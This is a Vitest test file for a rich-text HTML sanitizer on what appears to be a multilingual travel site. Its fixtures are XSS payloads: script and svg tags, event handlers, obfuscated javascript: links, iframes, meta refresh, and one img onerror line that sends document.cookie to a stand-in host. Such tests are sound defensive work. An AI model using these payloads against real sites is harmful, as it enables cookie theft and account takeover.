import { describe, expect, it } from "vitest";
import { sanitizeRichText } from "./rich-text.server";

describe("sanitizeRichText", () => {
  it("keeps the formatting of the allowlist, in any language", () => {
    const html =
      "<h2>Jadwal Perjalanan</h2><p><strong>Hari 1:</strong> <em>Jakarta</em> – <u>Jeddah</u> <s>lama</s><br></p>" +
      "<ul><li>Hotel ★5</li></ul><ol><li>Visa</li></ol><h3>Itinerary</h3><h4>Jadual</h4><blockquote>Labbaik</blockquote>";
    expect(sanitizeRichText(html)).toBe(
      "<h2>Jadwal Perjalanan</h2><p><strong>Hari 1:</strong> <em>Jakarta</em> – <u>Jeddah</u> <s>lama</s><br /></p>" +
        "<ul><li>Hotel ★5</li></ul><ol><li>Visa</li></ol><h3>Itinerary</h3><h4>Jadual</h4><blockquote>Labbaik</blockquote>",
    );
  });

  it("keeps what the panel's editor (Tiptap) makes exactly as it made it", () => {
    // Copied from the editor's getHTML() in the panel: lists wrap their items in paragraphs,
    // internal links carry no target, mailto: and https links are allowed.
    const html =
      "<p>Jawaban pertama.</p><p><strong>Wajib:</strong> <em>miring</em> <u>garis</u> <s>coret</s></p>" +
      "<ul><li><p>Paspor</p></li><li><p>Visa</p></li></ul><ol><li><p>Satu</p></li></ol>" +
      '<h2>Judul dua</h2><h3>Sub</h3><blockquote><p>Labbaik</p></blockquote><p><a href="/tour?category_id=1">tautan</a> ' +
      '<a href="https://example.com/a?b=1&amp;c=2">web</a> <a href="mailto:info@example.com">mail</a></p>';
    expect(sanitizeRichText(html)).toBe(html);
  });

  it("keeps text in non-Latin scripts and escapes stray brackets", () => {
    expect(sanitizeRichText("<p>لبيك اللهم لبيك — 1 < 2 & 3 > 2</p>")).toBe(
      "<p>لبيك اللهم لبيك — 1 &lt; 2 &amp; 3 &gt; 2</p>",
    );
  });

  it("maps b, i, h1, div to the allowed tags and drops the rest but keeps their text", () => {
    expect(
      sanitizeRichText("<h1>Judul</h1><div><b>Tebal</b> <i>miring</i> <span>teks</span> <font>x</font></div>"),
    ).toBe("<h2>Judul</h2><p><strong>Tebal</strong> <em>miring</em> teks x</p>");
  });

  it.each([
    ["a script tag and its content", '<p>Umrah<script>alert("xss")</script></p>', "<p>Umrah</p>"],
    ["an uppercase script tag", "<p>Paket<SCRIPT SRC=//evil.test/x.js></SCRIPT></p>", "<p>Paket</p>"],
    ["a split script tag", "<scr<script>ipt>alert(1)</script>", "ipt&gt;alert(1)"],
    ["an img with onerror", '<p>Foto <img src="x" onerror="alert(1)"></p>', "<p>Foto </p>"],
    [
      "onclick and style on allowed tags",
      '<p onclick="steal()" style="background:url(javascript:x)">Klik</p>',
      "<p>Klik</p>",
    ],
    ["onmouseover on a link", '<a href="https://ok.test" onmouseover="x()">ok</a>', '<a href="https://ok.test">ok</a>'],
    ["a javascript: link", '<a href="javascript:alert(1)">Klik</a>', "<a>Klik</a>"],
    ["an uppercase JavaScript: link", '<a href="JaVaScRiPt:alert(1)">Klik</a>', "<a>Klik</a>"],
    ["an entity-encoded javascript: link", '<a href="&#106;avascript&#58;alert(1)">Klik</a>', "<a>Klik</a>"],
    ["a hex-encoded javascript: link", '<a href="jav&#x61;script:alert(1)">Klik</a>', "<a>Klik</a>"],
    ["a javascript: link with a tab inside", '<a href="java\tscript:alert(1)">Klik</a>', "<a>Klik</a>"],
    ["a javascript: link with leading spaces", '<a href="  javascript:alert(1)">Klik</a>', "<a>Klik</a>"],
    ["a data: link", '<a href="data:text/html;base64,PHNjcmlwdD4=">Klik</a>', "<a>Klik</a>"],
    ["a vbscript: link", '<a href="vbscript:msgbox(1)">Klik</a>', "<a>Klik</a>"],
    ["a protocol-relative link", '<a href="//evil.test">Klik</a>', "<a>Klik</a>"],
    ["an svg with onload and script", '<svg onload="alert(1)"><script>alert(2)</script></svg>Teks', "Teks"],
    ["an iframe", '<iframe src="https://evil.test"></iframe><p>Isi</p>', "<p>Isi</p>"],
    ["a style block", "<style>body{display:none}</style><p>Isi</p>", "<p>Isi</p>"],
    ["an object and an embed", '<object data="x.swf"></object><embed src="x.swf"><p>Isi</p>', "<p>Isi</p>"],
    ["a form with a button", '<form action="https://evil.test"><button>Bayar</button></form>', "Bayar"],
    ["a meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.test"><p>Isi</p>', "<p>Isi</p>"],
    ["an HTML comment", "<p>Isi<!-- <script>alert(1)</script> --></p>", "<p>Isi</p>"],
    ["escaped markup stays text", "&lt;script&gt;alert(1)&lt;/script&gt;", "&lt;script&gt;alert(1)&lt;/script&gt;"],
  ])("removes %s", (_what, input, expected) => {
    expect(sanitizeRichText(input)).toBe(expected);
  });

  it("keeps safe links and forces rel on links opening a new tab", () => {
    expect(
      sanitizeRichText(
        '<a href="https://wa.me/62812" target="_top" rel="opener">WhatsApp</a> <a href="mailto:info@travel.test" title="Surel">Surel</a> <a href="/tour?category_id=1">Paket</a>',
      ),
    ).toBe(
      '<a href="https://wa.me/62812" target="_blank" rel="noopener noreferrer">WhatsApp</a> <a href="mailto:info@travel.test" title="Surel">Surel</a> <a href="/tour?category_id=1">Paket</a>',
    );
  });

  it("cleans texts in Indonesian, English and Malay alike", () => {
    const payloads = {
      id: '<p>Paket hemat <img src=x onerror="fetch(`//evil.test?c=`+document.cookie)"></p>',
      en: "<p>Budget package <a href=\"javascript:void(document.location='//evil.test')\">book</a></p>",
      my: '<p>Pakej jimat</p><svg><a xlink:href="javascript:alert(1)"><text>klik</text></a></svg>',
    };
    expect(sanitizeRichText(payloads.id)).toBe("<p>Paket hemat </p>");
    expect(sanitizeRichText(payloads.en)).toBe("<p>Budget package <a>book</a></p>");
    expect(sanitizeRichText(payloads.my)).toBe("<p>Pakej jimat</p>");
  });
});
